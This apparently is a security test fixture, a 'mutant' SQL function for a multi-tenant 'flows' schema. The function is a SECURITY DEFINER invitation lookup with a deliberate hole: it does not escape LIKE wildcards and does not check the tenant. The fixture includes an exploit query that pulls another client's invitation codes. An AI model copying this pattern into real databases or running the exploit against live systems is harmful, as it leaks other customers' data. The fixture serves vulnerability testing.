-- mutant: A definer function finds an invitation by the first characters of its code
-- base: flows
-- family: function
-- leaks: values of another client
create function flows.find_invitation(beginning text) returns table (code text, state text)
language plpgsql stable security definer set search_path = ''
as $$ begin
  if length(beginning) < 3 then raise exception 'Give at least three characters'; end if;
  return query select i.invitation_code, i.status from flows.invitations i where i.invitation_code like beginning || '%';
end $$;
revoke all on function flows.find_invitation(text) from public;
grant execute on function flows.find_invitation(text) to authenticated;

-- exploit as authenticated claims {"sub": "{{user_a}}", "role": "authenticated", "app_metadata": {"client_id": "{{a}}", "client_role": "member"}}
select * from flows.find_invitation('%%%') where code like 'canary-globex%';
